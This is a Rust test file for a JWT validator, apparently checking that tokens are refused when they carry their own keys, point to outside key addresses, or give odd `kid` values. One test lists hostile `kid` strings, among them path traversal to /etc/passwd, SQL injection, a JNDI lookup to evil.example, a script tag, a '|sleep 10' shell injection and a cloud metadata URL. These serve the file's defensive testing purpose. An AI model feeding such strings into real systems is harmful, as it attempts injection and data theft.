//! Check 4: the key that `kid` names, and nothing else in a token finds one.

use aws_lc_rs::digest::{Algorithm, SHA1_FOR_LEGACY_USE_ONLY as SHA1, SHA256, digest};
use base64::{
    Engine as _,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use serde_json::{Value, json};
use tower_entra::{
    ErrorKind::*,
    KeySettings,
    testing::{Fault, Issuer, TokenBuilder},
};

use super::parts::*;
use crate::{keys, support::*, wire};

#[test]
fn a_key_is_found_as_the_table_says() {
    prove(rows());
}

pub(crate) fn rows() -> Vec<Row> {
    vec![
        row(
            "C10",
            "a key in the header that signs the token",
            [
                refused_as(InvalidSignature, "claims to be for", "altered", |issuer| {
                    each(["jwk"], |name| {
                        with_own_key(issuer, name).header("kid", issuer.current_kid())
                    })
                })
                .one_fetch(),
                refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                    one(with_own_key(issuer, "jwk"))
                })
                .one_fetch(),
                refused_as(InvalidKeyId, "there is no kid", "kid", |issuer| {
                    one(with_own_key(issuer, "jwk").without_header("kid"))
                }),
                // What the right key has signed it vouches for, whatever else is in there.
                admitted(|issuer| one(issuer.user().header("jwk", json!({})))),
            ],
        ),
        scene(
            "C11",
            "`jku` and `x5u` of the one who signs the token: never asked for",
            addresses_in_the_header,
        ),
        row(
            "C12",
            "`x5c` with the certificate, made out by itself, of the key that signs the token",
            [
                refused_as(InvalidSignature, "claims to be for", "altered", |issuer| {
                    each(["x5c", "x5t", "x5t#S256"], |member| {
                        with_own_certificate(issuer, member, Some(&issuer.current_kid()))
                    })
                })
                .one_fetch(),
                refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                    each(["x5c", "x5t", "x5t#S256"], |member| {
                        let thumbprint = thumbprint(&SHA1, &stranger().own_certificate());
                        with_own_certificate(issuer, member, Some(&thumbprint))
                    })
                })
                .one_fetch(),
                refused_as(InvalidKeyId, "there is no kid", "kid", |issuer| {
                    each(["x5c", "x5t", "x5t#S256"], |member| {
                        with_own_certificate(issuer, member, None)
                    })
                }),
                admitted(|issuer| {
                    let certificate = STANDARD.encode(stranger().own_certificate());
                    each([json!([certificate]), json!(["MIIB"])], |x5c| {
                        issuer.user().header("x5c", x5c)
                    })
                }),
            ],
        ),
        row(
            "C15",
            "a `kid` that is empty, too long, or meant for a path, a log or a query",
            [
                refused_as(InvalidKeyId, "kid is ", "kid", |issuer| {
                    each(
                        ["".to_owned(), "k".repeat(257), "k".repeat(10_240)],
                        |kid| issuer.user().header("kid", kid),
                    )
                }),
                refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                    each(
                        [
                            "../../../../dev/null",
                            "/etc/passwd",
                            "%00",
                            "%2e%2e%2f",
                            "\0",
                            "\r\nX-Injected: 1",
                            "\"",
                            "' OR 1=1 --",
                            "'; DROP TABLE keys; --",
                            "${jndi:ldap://evil.example/x}",
                            "<script>alert(1)</script>",
                            "|sleep 10",
                            "http://169.254.169.254/latest",
                            "\u{1b}[31m",
                            "\u{202e}",
                            " ",
                            &"k".repeat(256),
                        ],
                        |kid| issuer.user().header("kid", *kid),
                    )
                })
                .one_fetch(),
            ],
        )
        .with(&[
            keys::discovery::nothing_of_a_token_is_sent_anywhere,
            wire::logs::hostile_texts_stay_in_one_short_line_of_printable_ascii,
        ]),
        row(
            "C16",
            "a real `kid` in another letter case",
            refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                let kid = issuer.current_kid();
                let swapped: String = kid.chars().map(swapped).collect();
                each([swapped, kid.to_lowercase(), kid.to_uppercase()], |kid| {
                    issuer.user().header("kid", kid)
                })
            })
            .one_fetch(),
        ),
        row(
            "C17",
            "a `kid` that is nearly a real one, or another key's",
            [
                refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                    let kid = issuer.current_kid();
                    each(
                        [
                            format!("{kid} "),
                            format!(" {kid}"),
                            format!("{kid}\0"),
                            format!("{kid}="),
                            kid[..kid.len() - 1].to_owned(),
                            kid[1..].to_owned(),
                            format!("{kid}{kid}"),
                            kid.replacen(&kid[..1], "\u{ff21}", 1),
                        ],
                        |kid| issuer.user().header("kid", kid),
                    )
                })
                .one_fetch(),
                refused_as(InvalidSignature, "claims to be for", "altered", |issuer| {
                    let other = issuer.publish_key();
                    one(issuer.user().header("kid", other))
                })
                .one_fetch(),
            ],
        ),
        row(
            "C18",
            "`x5t` of a real key under another `kid`",
            refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                each(["x5t", "x5t#S256"], |name| {
                    issuer
                        .user()
                        .header("kid", "another")
                        .header(*name, issuer.current_kid())
                })
            })
            .one_fetch(),
        ),
        row(
            "D06",
            "a key that is published for something else",
            refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                each(
                    [
                        ("use", json!("enc")),
                        ("use", json!("SIG")),
                        ("use", json!("")),
                        ("key_ops", json!(["encrypt", "wrapKey"])),
                        ("key_ops", json!([])),
                        ("key_ops", json!(["sign"])),
                    ],
                    |(name, value)| by_another_name(issuer, |jwk| jwk[*name] = value.clone()),
                )
            })
            .one_fetch(),
        ),
        row(
            "D07",
            "a foreign key under our `kid`, and one of ours that is withdrawn",
            [
                refused_as(InvalidSignature, "claims to be for", "altered", |issuer| {
                    let stolen_name = forger().user().header("kid", issuer.current_kid());
                    let mut inputs = one(stolen_name.claim("iss", issuer.v2_issuer()));
                    inputs.extend(one(issuer.user().signed_by_stranger()));
                    inputs
                })
                .one_fetch(),
                refused_as(UnknownKey, "names none of", "app_id", |issuer| {
                    let kid = issuer.publish_key();
                    issuer.withdraw(&kid);
                    one(issuer.user().signed_by(kid))
                })
                .one_fetch(),
            ],
        ),
        row(
            "C27",
            "an unknown key of a token that claims another issuer: told by what it claims",
            [
                unvouched("microsoftonline.us", "another cloud", |issuer| {
                    one(claiming(issuer, &v2_issuer_at("login.microsoftonline.us")))
                }),
                unvouched("ciamlogin.com", "ciamlogin.com", |issuer| {
                    let host = format!("{OTHER_TENANT}.ciamlogin.com");
                    one(claiming(issuer, &v2_issuer_at(&host)))
                }),
                unvouched("b2clogin.com", "B2C", |issuer| {
                    let iss = format!("{}/", v2_issuer_at("contoso.b2clogin.com"));
                    one(claiming(issuer, &iss))
                }),
                unvouched("https://idp.example/", "configured authority", |issuer| {
                    one(claiming(issuer, "https://idp.example/"))
                }),
                unvouched("https://idp.example", "the form", |issuer| {
                    one(claiming(issuer, "https://idp.example").claim("ver", "3"))
                }),
                unvouched("claims to be from", "it claims version 1.0", |issuer| {
                    one(issuer.user().v1().header("kid", "theirs"))
                })
                .with(without_v1_issuer),
            ],
        ),
        row(
            "C28",
            "an unknown key of a token that would be refused all the same: told why",
            [
                unvouched(OTHER_TENANT, "tenant", |issuer| {
                    one(by_theirs(issuer).tenant(OTHER_TENANT))
                }),
                unvouched(
                    r#"claims to be for "api://x\r\n""#,
                    "scope of this one",
                    |issuer| one(by_theirs(issuer).audience("api://x\r\n")),
                ),
                unvouched("claims no audience", "scope of this one", |issuer| {
                    one(by_theirs(issuer).without_claim("aud"))
                }),
                unvouched("at 1970-01-01T00:17:40Z", "new one", |issuer| {
                    one(by_theirs(issuer).issued_at(1_000).valid_for(60))
                }),
                unvouched("dates", "NTP", |issuer| {
                    one(by_theirs(issuer).claim("nbf", now() + 1_000))
                }),
            ],
        ),
    ]
}

/// A token that says all the right things, by a key that it brings itself in this member.
fn with_own_key(issuer: &Issuer, member: &str) -> TokenBuilder {
    let keys: Value = serde_json::from_slice(&forger().keys_document()).unwrap();
    forger()
        .user()
        .claim("iss", issuer.v2_issuer())
        .header(member, &keys["keys"][0])
}

/// A token that says all the right things, by a key whose certificate it brings in `x5c`, or only
/// names in another member.
fn with_own_certificate(issuer: &Issuer, member: &str, kid: Option<&str>) -> String {
    let certificate = stranger().own_certificate();
    let value = match member {
        "x5t" => json!(thumbprint(&SHA1, &certificate)),
        "x5t#S256" => json!(thumbprint(&SHA256, &certificate)),
        _ => json!([STANDARD.encode(&certificate)]),
    };
    let token = issuer.user().header(member, value);
    let token = match kid {
        Some(kid) => token.header("kid", kid),
        None => token.without_header("kid"),
    };
    let token = token.mint();
    let (signed, _) = token.rsplit_once('.').unwrap();
    let signature = URL_SAFE_NO_PAD.encode(stranger().sign(signed.as_bytes()));
    format!("{signed}.{signature}")
}

/// What `x5t` and `x5t#S256` hold. Entra's `kid`s are that of SHA-1.
fn thumbprint(algorithm: &'static Algorithm, certificate: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(digest(algorithm, certificate))
}

fn addresses_in_the_header(issuer: &Issuer) {
    let forger = forger();
    let there = format!(
        "{}/{}/discovery/v2.0/keys",
        forger.url(),
        forger.tenant_id()
    );
    let validator = issuer.validator();
    block_on(async {
        validator.ready().await;
        for member in ["jku", "x5u", "jwks_uri", "iss", "url"] {
            let forged = || {
                forger
                    .user()
                    .claim("iss", issuer.v2_issuer())
                    .header(member, &there)
            };
            for (token, kind) in [
                (forged(), UnknownKey),
                (
                    forged().header("kid", issuer.current_kid()),
                    InvalidSignature,
                ),
                (forged().without_header("kid"), InvalidKeyId),
            ] {
                assert_eq!(
                    outcome(&validator, &token.mint()).await,
                    Err(kind),
                    "{member}"
                );
            }
            let honest = issuer.user().header(member, &there).mint();
            assert_eq!(outcome(&validator, &honest).await, Ok(()));
        }
    });
    assert_eq!(forger.requests_seen(), [""; 0]);
}

fn swapped(letter: char) -> char {
    if letter.is_ascii_lowercase() {
        letter.to_ascii_uppercase()
    } else {
        letter.to_ascii_lowercase()
    }
}

/// What the token says is not verified, so nothing is fetched for what it says.
fn unvouched(words: &'static str, hint: &'static str, inputs: fn(&Issuer) -> Vec<Input>) -> Case {
    refused_as(UnknownKey, words, hint, inputs)
}

fn by_theirs(issuer: &Issuer) -> TokenBuilder {
    issuer.user().header("kid", "theirs")
}

fn claiming(issuer: &Issuer, iss: &str) -> TokenBuilder {
    by_theirs(issuer).claim("iss", iss)
}

fn v2_issuer_at(host: &str) -> String {
    format!("https://{host}/{OTHER_TENANT}/v2.0")
}

#[test]
fn an_unknown_key_is_told_with_the_number_of_keys_and_where_they_are_from() {
    let issuer = Issuer::start_blocking();
    issuer.publish_key();
    let token = issuer.user().header("kid", "theirs").mint();
    let line = error_by(&issuer.validator(), &token).to_string();
    let (url, tenant) = (issuer.url(), issuer.tenant_id());
    let url = format!("{url}/{tenant}/v2.0/.well-known/openid-configuration");
    assert!(
        line.contains("kid \"theirs\"") && line.contains("(2, fetched "),
        "{line}"
    );
    assert!(line.contains(&url), "{line}");
}

#[test]
fn an_unverified_token_is_no_reason_to_change_the_configuration() {
    let validator = issuer().validator();
    for token in [
        claiming(issuer(), &v2_issuer_at("login.microsoftonline.us")),
        claiming(issuer(), "https://idp.example/"),
        by_theirs(issuer()).tenant(OTHER_TENANT),
        by_theirs(issuer()).audience("api://other"),
    ] {
        let error = error_by(&validator, &token.mint());
        let hint = error.hint();
        assert!(
            !hint.contains("Authority::") && !hint.contains("app_id"),
            "{hint}"
        );
    }
}

#[test]
fn without_keys_the_line_says_why_there_are_none() {
    let issuer = Issuer::start_blocking();
    issuer.fail(Fault::Status(500));
    let validator = validator(&issuer, KeySettings::default().with_wait(200 * TICK));
    let error = block_on(validator.validate(&issuer.user().mint())).unwrap_err();
    assert_eq!(error.kind(), KeysUnavailable);
    let line = error.to_string();
    let url = format!("from {}/", issuer.url());
    for words in ["none were ever fetched", &url, "status 500"] {
        assert!(line.contains(words), "{words:?} is not in: {line}");
    }
    assert!(error.hint().contains("authority"), "{}", error.hint());
    assert!(error.retry_after().is_some());
}

#[test]
fn an_unknown_key_during_an_outage_says_what_the_outage_is() {
    let issuer = Issuer::start_blocking();
    let validator = issuer.validator();
    let unknown = issuer.new_unpublished_key();
    let token = issuer.user().signed_by(&unknown).mint();
    let error = block_on(async {
        validator.ready().await;
        issuer.fail(Fault::Html);
        validator.validate(&token).await.unwrap_err()
    });
    assert_eq!(error.kind(), KeysUnavailable);
    let line = error.to_string();
    for words in [&unknown, "known keys (1, ", "no discovery document"] {
        assert!(line.contains(words), "{words:?} is not in: {line}");
    }
    assert!(error.hint().contains("known keys"), "{}", error.hint());
}
